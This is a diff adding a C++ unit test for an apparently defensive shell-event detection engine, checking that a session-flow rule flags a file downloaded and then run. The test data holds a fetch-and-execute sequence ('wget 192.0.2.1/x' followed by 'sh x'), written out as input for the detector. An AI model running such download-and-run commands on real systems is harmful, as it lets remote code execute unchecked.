@@ -93,6 +93,19 @@ TEST(ShellFields, AreOfCommandsAlone) {
   EXPECT_THAT(rule("argv0", "id", "payload")->match(event("id", "payload")), IsEmpty());
 }
 
+// A session's end tells its commands: what happens to files from one to the next is seen there.
+TEST(ShellFields, FlowOfASession) {
+  Event ended = event("", "session");
+  ended.payload = *Json::parse(
+      R"({"commands": [{"command_text": "cd /tmp"}, {"text": "wget 192.0.2.1/x"}, "sh x", 5, {}]})");
+  const auto matches = rule("flow", "-then-run .+", "session")->match(ended);
+  ASSERT_THAT(matches, SizeIs(1));
+  EXPECT_EQ(matches[0].matched, "-then-run /tmp/x");
+  EXPECT_THAT(rule("argv0", "wget", "session")->match(ended), IsEmpty());
+  ended.payload = *Json::parse(R"({"commands": 5})");
+  EXPECT_THAT(rule("flow", "run", "session")->match(ended), IsEmpty());
+}
+
 TEST(ShellFields, WinOverKeysOfThePayload) {
   Event told = event("id");
   told.payload.set("argv0", Json("wget"));
